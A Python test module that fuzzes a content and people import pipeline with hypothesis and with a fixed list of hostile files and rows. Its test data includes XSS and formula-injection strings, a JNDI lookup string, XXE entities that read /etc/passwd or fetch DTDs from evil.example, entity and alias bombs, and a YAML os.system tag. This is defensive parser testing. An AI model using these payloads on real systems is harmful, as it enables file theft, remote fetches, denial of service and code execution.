"""Fuzzing the imports: property tests of the field and record parsers, and hostile files of every format.

Two halves, both bounded for a 2-core machine and deterministic (hypothesis is
derandomized and keeps no example database; the hostile files are fixed lists):

* hypothesis drives ``fields.as_*``, ``parse_item``, ``parse_person``, the CSV
  reader (round trip) and ``read_file`` on arbitrary bytes of every suffix:
  the only exception ever allowed out is ``Rejected`` / ``BadFile``, and what
  is accepted respects the documented limits.
* a generator of hostile files (Markdown, HTML, RSS/Atom, CSV, JSONL; content
  and people) and of hostile rows; each file is read alone under a 5 s CPU
  bound, then everything is imported in one mixed batch (hostile files between
  good ones, hostile rows between good rows): no exception, and every good row stored.

``pytest tests/imports/test_import_fuzz.py -s`` prints the tallies (cases tried, crashes, good rows lost).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assistant.config import Settings
from assistant.imports import fields
from assistant.imports.catalog import KINDS, LIMITS, ingest, parse_item
from assistant.imports.fields import Rejected
from assistant.imports.people import LIMITS as PEOPLE_LIMITS
from assistant.imports.people import import_people, parse_person
from assistant.imports.readers import BadFile, Record, read_csv, read_file
from assistant.storage.store import open_store

FUZZ = settings(max_examples=150, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
HANG_CPU_S = 5.0
TALLY: Counter = Counter()

# --- strategies ---------------------------------------------------------------------------

HOSTILE_STRINGS = [
    "", " ", "\t", "\xa0", "inf", "-inf", "nan", "NaN", "1e309", "-1", "2.5", "0x10", "9" * 40, "1" * 5000,
    "\ud800", "a\udfffb", "\x00", "x\x00y", "\u2028", "\x85", "\r", "\n", "\r\n", '"', "'", ",", ";", "\\",
    "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "mailto:x@y.example", "//evil.example/a",
    "http://", "https://[::1", "http:// space.example", "file:///etc/passwd", "HTTPS://OK.EXAMPLE/A",
    '=HYPERLINK("http://evil.example")', "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x}", "%s%n",
    "../../etc/passwd", "A" * 600, "é" * 501, "😀" * 300, "\u202e" * 10, "9999-99-99", "2026-02-30",
    "0000-00-00", "2026-11-22T25:61", "yesterday", "[" * 3000, "*_" * 2000, "oui", "NON", "f", "Femme", "x@y",
    "a@b.c", "@@", "a" * 300 + "@example.com",
]
text = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_STRINGS), st.text(max_size=10).map(lambda s: s + "\ud800"))
huge = st.builds(pow, st.just(10), st.sampled_from([31, 300, 5000]))  # 10**5000 cannot even be printed
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.sampled_from([2**31, -(2**63)]), huge,
                    st.floats(allow_nan=True, allow_infinity=True), text, st.dates(), st.datetimes())
values = st.recursive(scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(text, inner, max_size=3),
                      max_leaves=10)
CONTENT_KEYS = ["id", "title", "text", "body", "content", "description", "url", "link", "kind", "language", "lang",
                "campaign", "priority", "published_at", "expires_at", "categories"]
PEOPLE_KEYS = ["email", "name", "role", "team", "languages", "expertise", "skills", "posts", "network_size",
               "gender_fr", "consent_program", "consent_leaderboard", "consent_interviews"]


def records(keys: list[str], required: dict):
    """Field dicts over the documented keys (plus unknown ones), each required key usually present."""
    return st.builds(lambda base, extra: {**base, **extra},
                     st.fixed_dictionaries({}, optional={k: st.one_of(v, values) for k, v in required.items()}),
                     st.dictionaries(st.one_of(st.sampled_from(keys), text), values, max_size=6))


# --- hypothesis: field parsers ------------------------------------------------------------

@FUZZ
@given(values)
def test_field_parsers_only_ever_reject(value):
    TALLY["hypothesis values"] += 1
    for parse in (lambda v: fields.as_int(v, "n", low=0, high=3), lambda v: fields.as_bool(v, "b"),
                  lambda v: fields.as_list(v, "l", item_limit=20, max_items=5), lambda v: fields.as_date(v, "d"),
                  lambda v: fields.as_text(v, "t", 30), lambda v: fields.extra_json({"x": v}, set(), limit=200)):
        try:
            out = parse(value)
        except Rejected as exc:
            assert "\n" not in str(exc) and len(str(exc)) < 400
            continue
        if isinstance(out, int) and not isinstance(out, bool):
            assert 0 <= out <= 3
        if isinstance(out, list):
            assert len(out) <= 5 and all(len(x) <= 20 and "\n" not in x for x in out)
        if isinstance(out, str):
            assert len(out) <= 200
    reason = fields.check_value(value)
    assert reason is None or isinstance(reason, fields.Rejected)


# --- hypothesis: record parsers -----------------------------------------------------------

@FUZZ
@given(records(CONTENT_KEYS, {"text": text, "title": text, "id": text, "language": st.sampled_from(["fr", "en"])}),
       st.booleans())
def test_parse_item_accepts_only_what_can_be_stored(raw, single):
    TALLY["hypothesis content records"] += 1
    try:
        item = parse_item(Record(raw, "fuzz.jsonl:1", single=single))
    except Rejected:
        return
    assert 0 < len(item["text"]) <= LIMITS["text"] and len(item["title"]) <= LIMITS["title"]
    assert 0 < len(item["id"]) <= LIMITS["id"] and "\n" not in item["id"] and "\n" not in item["title"]
    assert item["url"] is None or item["url"].lower().startswith(("http://", "https://"))
    assert item["kind"] in KINDS and 0 <= item["priority"] <= 3
    assert not (item["published_at"] and item["expires_at"] and item["expires_at"] < item["published_at"])
    assert item["extra"] is None or len(item["extra"]) <= fields.MAX_EXTRA_CHARS
    json.dumps(item, default=str).encode("utf-8")  # storable: no lone surrogate anywhere


@FUZZ
@given(records(PEOPLE_KEYS, {"email": st.emails() | text, "name": text}))
def test_parse_person_accepts_only_what_can_be_stored_and_never_consent(raw):
    TALLY["hypothesis people records"] += 1
    try:
        person = parse_person(Record(raw, "fuzz.jsonl:1"))
    except Rejected:
        return
    assert len(person["email"]) <= PEOPLE_LIMITS["email"] and "@" in person["email"]
    assert 0 < len(person["name"]) <= PEOPLE_LIMITS["name"] and "\n" not in person["name"]
    assert all(len(p) <= PEOPLE_LIMITS["post"] for p in person["posts"])
    assert not any(key.startswith("consent") for key in person)
    json.dumps(person, default=str).encode("utf-8")


# --- hypothesis: readers ------------------------------------------------------------------

cells = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), max_size=12)


@FUZZ
@given(st.lists(st.lists(cells, min_size=3, max_size=3), min_size=1, max_size=8), st.sampled_from([",", ";", "\t"]),
       st.sampled_from([("\n", csv.QUOTE_ALL), ("\r", csv.QUOTE_ALL), ("\r\n", csv.QUOTE_MINIMAL)]))
def test_csv_rows_written_by_a_csv_writer_read_back(rows, delimiter, style):
    TALLY["hypothesis csv files"] += 1
    newline, quoting = style  # QUOTE_MINIMAL quotes a lone \r only when it is part of the line terminator
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline, quoting=quoting)
    writer.writerow(["id", "title", "text"])
    writer.writerows(rows)
    try:
        read = read_csv(Path("f.csv"), out.getvalue())
    except BadFile:
        assert all(not "".join(r).strip() for r in rows)  # only a file of blank rows is refused
        return
    expected = [{k: v.strip() for k, v in zip(["id", "title", "text"], r) if v.strip()} for r in rows]
    assert [r.fields for r in read.records] == [e for e in expected if e] and not read.problems


@FUZZ
@given(st.binary(max_size=3000) | st.text(max_size=3000).map(lambda s: s.encode("utf-8", "surrogatepass")),
       st.sampled_from([".md", ".html", ".xml", ".rss", ".atom", ".csv", ".jsonl", ".json"]))
def test_read_file_on_arbitrary_bytes_never_raises_anything_else(tmp_path_factory, data, suffix):
    TALLY["hypothesis arbitrary files"] += 1
    path = tmp_path_factory.mktemp("any") / f"f{suffix}"
    path.write_bytes(data)
    start = time.process_time()
    try:
        read = read_file(path)
    except BadFile as exc:
        assert "\n" not in str(exc)
        return
    assert time.process_time() - start < HANG_CPU_S
    for record in read.records:
        json.dumps(record.fields, default=str).encode("utf-8")


# --- hostile files ------------------------------------------------------------------------

def _bomb() -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        prev, name = chr(96 + i), chr(97 + i)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return "---\n" + "\n".join(lines) + "\n---\nBody.\n"


def _laughs(root: str) -> str:
    entities = '<!ENTITY a "' + "a" * 10 + '">' + "".join(
        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]><{root}><title>&j;</title></{root}>'


def hostile_content_files() -> dict[str, str | bytes]:
    """Whole files that break or strain a reader, by file name."""
    md = {
        "alias-bomb": _bomb(), "python-tag": "---\nx: !!python/object/apply:os.system [echo]\n---\nBody.",
        "front-list": "---\n- a\n- b\n---\nBody.", "front-unclosed": "---\ntitle: x\nBody without end.",
        "front-huge": "---\nx: '" + "y" * 70_000 + "'\n---\nBody.", "front-deep": "---\nx: " + "[" * 3000 + "\n---\nB",
        "front-bigint": "---\nx: " + "7" * 5000 + "\n---\nBody.", "front-inf": "---\npriority: .inf\n---\nBody text.",
        "front-nan": "---\npriority: .nan\n---\nBody text.", "front-date": "---\npublished_at: 2026-13-45\n---\nB.",
        "front-window": "---\npublished_at: 2026-12-01\nexpires_at: 2026-01-01\n---\nBody text.",
        "front-url": "---\nurl: javascript:alert(1)\n---\nBody text.", "front-title": "---\ntitle: " + "T" * 600 + "\n---\nB",
        "front-surrogate": '---\ntitle: "\\ud800"\n---\nBody text.', "front-nul": '---\ntitle: "a\\0b"\n---\nBody.',
        "front-id-lines": '---\nid: "a\\nb"\n---\nBody text.', "front-keys": "---\n? [a, b]\n: c\n---\nBody text.",
        "brackets": "[" * 40_000, "images": "![" * 20_000, "emphasis": "*_" * 20_000, "links": "[a](" * 10_000,
        "quotes": "> " * 5000 + "deep", "list-deep": "".join("  " * i + "- x\n" for i in range(300)),
        "html-block": "<div><script>alert(1)</script><p>Texte</p></div>\n\nSuite du texte.",
        "cr-only": "---\rtitle: CR\r---\rLigne une.\rLigne deux.", "only-front": "---\ntitle: Empty\n---\n",
        "too-long": "word " * 230_000, "text-limit": "a" * 100_001, "zero-width": "\u200b" * 5000 + "texte",
        "tabs": "\t" * 10_000 + "x", "entities": "&#xD800; &#0; &#x110000; &nbsp;" * 1000, "table": "|a" * 5000 + "\n|-",
    }
    html = {
        "parser-quadratic-1": "<a b=" * 20_000, "parser-quadratic-2": "<!--" * 25_000, "parser-quadratic-3": '<a href="' * 10_000,
        "deep": "<div>" * 10_000 + "deep text" + "</div>" * 10_000, "meta-priority": '<meta name="priority" content="inf"><p>T</p>',
        "meta-url": '<meta name="url" content="javascript:alert(1)"><p>Text here</p>',
        "canonical": '<link rel="canonical" href="data:text/html,x"><p>Text here</p>', "title-huge": "<title>" + "t" * 10_000 + "</title><p>x</p>",
        "lang-huge": '<html lang="' + "x" * 1000 + '"><p>Texte</p></html>', "entities": "<p>&#xD800;&#0;&#x110000;</p>" * 100,
        "script-only": "<script>alert(1)</script>", "svg": "<svg><text>secret</text></svg><math>x</math>",
        "frameset": "<frameset><frame src=x></frameset>", "cdata": "<![CDATA[ x ]]><?pi x?><!DOCTYPE junk>",
        "charset": '<meta charset="iso-8859-1"><p>Café crème</p>', "too-large": "<p>" + "x" * 5_000_001 + "</p>",
        "meta-many": '<meta name="k" content="v">' * 20_000, "nested-main": "<main><main><h1>T</h1></main></main>",
    }
    feeds = {
        "laughs.xml": _laughs("rss"), "xxe.rss": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        "<rss><channel><item><title>t</title><description>&x;</description></item></channel></rss>",
        "param.xml": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        "dtd.xml": '<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd"><rss><channel><item><title>t</title></item></channel></rss>',
        "broken.rss": "<rss><channel><item><title>oops</channel>", "root.xml": "<html><body>no</body></html>",
        "empty.atom": '<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>',
        "prolog.xml": "<!--" + "\n<!ENTITY" * 3000 + "-->\n<rss><channel><item><title>t</title></item></channel></rss>",
        "unbound.xml": "<rss><channel><item><x:y>1</x:y></item></channel></rss>",
        "deep.rss": "<rss><channel><item><title>t</title><description>" + "<a>" * 5000 + "</a>" * 5000
        + "</description></item></channel></rss>",
        "cr.rss": "<rss>\r<channel>\r<item>\r<title>CR</title>\r<description>Texte CR.</description>\r</item>\r</channel>\r</rss>",
        "items.rss": "<rss xmlns:x='urn:x'><channel>" + "".join(
            f"<item><guid>{'g' * (10_000 if i == 0 else 3)}{i}</guid><title>{'t' * (1000 if i == 1 else 3)}</title>"
            f"<link>{'javascript:x' if i == 2 else 'https://n.example/' + str(i)}</link><x:priority>{['inf', '7', '1e99'][i % 3]}</x:priority>"
            f"<pubDate>{'Tue, ' * 3000 if i == 3 else 'garbage'}</pubDate><category domain='kind'>{'podcast' if i == 4 else 'news'}</category>"
            f"<description>&lt;script&gt;alert(1)&lt;/script&gt;Texte {i}</description></item>" for i in range(6))
        + "</channel></rss>",
        "atom-xhtml.atom": '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>x</id><title type="html">&lt;b&gt;T&lt;/b&gt;</title>'
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">' + "<p>" * 2000 + "x" + "</p>" * 2000 + "</div></content></entry></feed>",
        "many.rss": "<rss><channel>" + "<item><title>t</title><description>d</description></item>" * 3000 + "</channel></rss>",
    }
    tables = {
        "cr-only.csv": "id,title,text\rx1,T,Texte\r", "unclosed.csv": 'id,title,text\nx2,"T,Texte\n',
        "nul.csv": "id,title,text\nx3,T,Te\x00xte\n", "header-only.csv": "id,title,text\n", "dup-header.csv": "id,id\n1,2\n",
        "wide.csv": ",".join(f"c{i}" for i in range(2000)) + "\n" + ",".join("v" for _ in range(2000)) + "\n",
        "big-field.csv": "id,title,text\nx4,T," + "y" * 200_000 + "\n", "bom.csv": "\ufeffid;title;text\nx5;T;Texte\n",
        "quote-in-field.csv": 'id,title,text\nx6,a"b,"c"d\n', "blank-lines.csv": "\n\n\n", "long-line.csv": "x" * 100_000,
        "empty-names.csv": ",,\n1,2,3\n", "latin1.csv": "id,title,text\nx7,Caf\xe9,cr\xe8me\n".encode("latin-1"),
        "binary.csv": b"\x89PNG\r\n\x1a\n\x00\x00",
    }
    jsons = {
        "deep.jsonl": '{"a": ' * 1000 + "1" + "}" * 1000, "bigint.jsonl": '{"text": ' + "1" * 5000 + "}",
        "nan.jsonl": '{"text": NaN}', "surrogate.jsonl": '{"text": "\\ud800 x"}', "nul.jsonl": '{"text": "\\u0000"}',
        "scalars.jsonl": '1\n"s"\n[1]\nnull\ntrue', "broken.json": "[{", "deep.json": "[" * 3000 + "]" * 3000,
        "scalars.json": "[1, 2]", "object.json": '{\n  "text": "pretty"\n}', "types.jsonl": json.dumps(
            {"title": {"a": 1}, "text": ["x"], "priority": [1], "categories": {"a": "b"}, "kind": 5}),
        "u2028.jsonl": '{"id": "u", "text": "a\u2028b", "title": "t\u0085"}',
    }
    out: dict[str, str | bytes] = {}
    out.update({f"h-{k}.md": v for k, v in md.items()})
    out.update({f"h-{k}.html": v for k, v in html.items()})
    out.update({f"h-{k}": v for k, v in {**feeds, **tables, **jsons}.items()})
    out["h-empty.md"] = ""
    out["h-space.md"] = " \n\t\n"
    return out


def hostile_rows(keys: list[str], base) -> list[dict]:
    """One row per (field, hostile value): a valid row with that field replaced."""
    rows = []
    for key in keys:
        for n, value in enumerate(HOSTILE_STRINGS + [10**30, -1, 1e308, [], {}, [["x"]], True]):
            rows.append({**base(f"{key}-{n}"), key: value})
    return rows


def good_item(tag: str) -> dict:
    return {"id": f"good-{tag}", "title": f"Bonne nouvelle {tag}", "language": "fr", "kind": "news",
            "text": f"Le parc solaire numéro {tag} produit de l'électricité pour la région depuis 2026."}


def hostile_item(tag: str) -> dict:
    return {"id": f"hostile-{tag}", "title": f"Titre {tag}", "language": "en", "url": f"https://n.example/{tag}",
            "text": f"A row that carries one hostile value, number {tag}, among ordinary fields."}


def good_person(tag: str) -> dict:
    return {"email": f"good-{tag}@example.com", "name": f"Good {tag}", "languages": "fr",
            "expertise": f"Réseaux électriques et données, profil {tag}."}


def hostile_person(tag: str) -> dict:
    return {"email": f"hostile-{tag}@example.com", "name": f"Hostile {tag}", "languages": "en"}


def _cell(value) -> str:
    """A value as a CSV cell; NUL and lone surrogates cannot be in a UTF-8 text file, so they are left out
    here (whole files holding them are among the hostile files)."""
    text = "" if value is None else value if isinstance(value, str) else json.dumps(value, default=str)
    return _UNWRITABLE.sub("", text)


_UNWRITABLE = re.compile("[\x00\ud800-\udfff]")


def _csv(rows: list[dict], header: list[str]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, extrasaction="ignore", lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: _cell(row.get(k)) for k in header})
    return out.getvalue()


def _jsonl(rows: list[dict]) -> str:
    return "".join(json.dumps(r, ensure_ascii=True, default=str) + "\n" for r in rows)


def interleave(good: list[dict], hostile: list[dict]) -> list[dict]:
    out, step = [], max(1, len(hostile) // max(1, len(good)))
    for i, row in enumerate(good):
        out.append(row)
        out.extend(hostile[i * step:(i + 1) * step])
    out.extend(hostile[len(good) * step:])
    return out


def write_files(folder: Path, files: dict[str, str | bytes]) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, data in files.items():
        path = folder / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8", "surrogatepass"))
        paths.append(path)
    return paths


def read_each_within_bound(paths: list[Path]) -> float:
    """Read every file alone: only ``BadFile`` may escape, none may take ``HANG_CPU_S``; returns the slowest."""
    slowest = 0.0
    for path in paths:
        start = time.process_time()
        try:
            read_file(path)
        except BadFile:
            pass
        spent = time.process_time() - start
        assert spent < HANG_CPU_S, f"{path.name} took {spent:.1f} s CPU"
        slowest = max(slowest, spent)
    return slowest


@pytest.fixture
def fuzz_store(tmp_path):
    return open_store(Settings(home=tmp_path / "fuzz-home", embedder="fake", generator="fake"))


def test_hostile_content_files_and_rows_never_cost_good_rows(fuzz_store, tmp_path):
    hostile = hostile_content_files()
    slowest = read_each_within_bound(write_files(tmp_path / "alone", hostile))
    good_files: dict[str, str] = {}
    for i in range(len(hostile)):  # a good file after every hostile one, in every format
        tag = f"f{i}"
        kind = i % 5
        if kind == 0:
            good_files[f"g{i:03d}.jsonl"] = _jsonl([good_item(tag)])
        elif kind == 1:
            good_files[f"g{i:03d}.csv"] = _csv([good_item(tag)], ["id", "title", "text", "language", "kind"])
        elif kind == 2:
            item = good_item(tag)
            good_files[f"g{i:03d}.md"] = f"---\nid: {item['id']}\nlanguage: fr\n---\n# {item['title']}\n\n{item['text']}\n"
        elif kind == 3:
            item = good_item(tag)
            good_files[f"g{i:03d}.html"] = (f'<html lang="fr"><head><meta name="id" content="{item["id"]}"><title>{item["title"]}'
                                            f'</title></head><body><main><p>{item["text"]}</p></main></body></html>')
        else:
            item = good_item(tag)
            good_files[f"g{i:03d}.rss"] = (f"<rss><channel><item><guid>{item['id']}</guid><title>{item['title']}</title>"
                                           f"<description>{item['text']}</description></item></channel></rss>")
    rows = hostile_rows(CONTENT_KEYS, hostile_item)
    good_rows = [good_item(f"r{i}") for i in range(60)]
    mixed = interleave(good_rows, rows)
    names = sorted(hostile)
    batch = {f"{i:03d}-{name}": hostile[name] for i, name in enumerate(names)}
    batch.update({f"{int(name[1:4]):03d}-{name}": data for name, data in good_files.items()})
    batch["500-rows.jsonl"] = _jsonl(mixed[: len(mixed) // 2])
    batch["501-rows.csv"] = _csv(mixed[len(mixed) // 2:], CONTENT_KEYS)
    folder = tmp_path / "batch"
    write_files(folder, batch)
    report = ingest(fuzz_store, [folder])  # raising here is a crash
    stored = {r["id"] for r in fuzz_store.rows("SELECT id FROM content")}
    wanted = {f"good-f{i}" for i in range(len(hostile))} | {r["id"] for r in good_rows}
    lost = wanted - stored
    again = ingest(fuzz_store, [folder])
    TALLY.update({"hostile content files": len(hostile), "hostile content rows": len(rows),
                  "good content rows": len(wanted), "good content rows lost": len(lost)})
    print(f"\ncontent fuzz: {len(hostile)} hostile files + {len(rows)} hostile rows, {len(wanted)} good rows, "
          f"{len(lost)} lost, slowest single file {slowest:.2f} s CPU, {report.summary()}")
    assert not lost, sorted(lost)[:10]
    assert again.counts["added"] == 0 and again.counts["updated"] == 0
    assert all("\n" not in p for p in report.problems)
    assert report.counts["rejected"] >= len(hostile) // 2


def test_hostile_people_files_and_rows_never_cost_good_people(fuzz_store, tmp_path):
    header = PEOPLE_KEYS
    rows = hostile_rows(PEOPLE_KEYS, hostile_person)
    good_rows = [good_person(f"r{i}") for i in range(60)]
    mixed = interleave(good_rows, rows)
    structural = {
        "p-unclosed.csv": "email,name,team,expertise\n" + 'u1@example.com,"Unclosed,Data,SQL\n'
        + "".join(f"good-s{i}@example.com,Good s{i},Web,CSS\n" for i in range(3)),
        "p-swallow.csv": "email,name,team,expertise\n" + 'u2@example.com,U,Data,"Streaming\n'
        + "good-t0@example.com,Good t0,Web,Design\nu3@example.com,U3,Ops,Cloud\"\n" + "good-t1@example.com,Good t1,Ops,Linux\n",
        "p-deep.jsonl": '{"email": "d@example.com", "posts": ' + "[" * 1000 + "]" * 1000 + "}\n"
        + _jsonl([good_person("j0")]),
        "p-posts.jsonl": _jsonl([{**hostile_person("many"), "posts": ["p"] * 5000}, good_person("j1"),
                                 {**hostile_person("long"), "posts": ["x" * 20_000]}, good_person("j2")]),
        "p-consent.csv": "email,name,consent_program\nc1@example.com,C1,maybe\ngood-c0@example.com,Good c0,oui\n",
        "p-cr.csv": "email,name\rgood-cr@example.com,Good cr\r",
    }
    slowest = read_each_within_bound(write_files(tmp_path / "alone", structural))
    folder = tmp_path / "people"
    write_files(folder, {**structural, "rows.jsonl": _jsonl(mixed[: len(mixed) // 2]),
                         "rows.csv": _csv(mixed[len(mixed) // 2:], header)})
    report = import_people(fuzz_store, [folder])
    stored = {r["email"] for r in fuzz_store.rows("SELECT email FROM employees")}
    wanted = ({p["email"] for p in good_rows} | {f"good-s{i}@example.com" for i in range(3)}
              | {"good-j0@example.com", "good-j1@example.com", "good-j2@example.com", "good-c0@example.com",
                 "good-t1@example.com", "good-cr@example.com"})
    lost = wanted - stored
    consenting = fuzz_store.value("SELECT count(*) FROM employees WHERE consent_program OR consent_leaderboard "
                                  "OR consent_interviews")
    TALLY.update({"hostile people files": len(structural), "hostile people rows": len(rows),
                  "good people rows": len(wanted), "good people rows lost": len(lost)})
    print(f"\npeople fuzz: {len(structural)} hostile files + {len(rows)} hostile rows, {len(wanted)} good rows, "
          f"{len(lost)} lost, slowest single file {slowest:.2f} s CPU, {report.summary()}")
    assert not lost, sorted(lost)[:10]
    assert consenting == 0
    assert "p-swallow.csv:2-4" in "\n".join(report.problems)


def test_tally(request):
    """Runs last in this module: the number of cases tried (the suite's promise is at least 1,000)."""
    total = sum(v for k, v in TALLY.items() if not k.endswith("lost") and not k.startswith("good"))
    print(f"\nimport fuzz cases: {total} ({dict(TALLY)})")
    if len(TALLY) >= 9:  # the whole module ran (not a -k selection)
        assert total >= 1000
        assert TALLY["good content rows lost"] == 0 and TALLY["good people rows lost"] == 0
    assert math.isfinite(total)
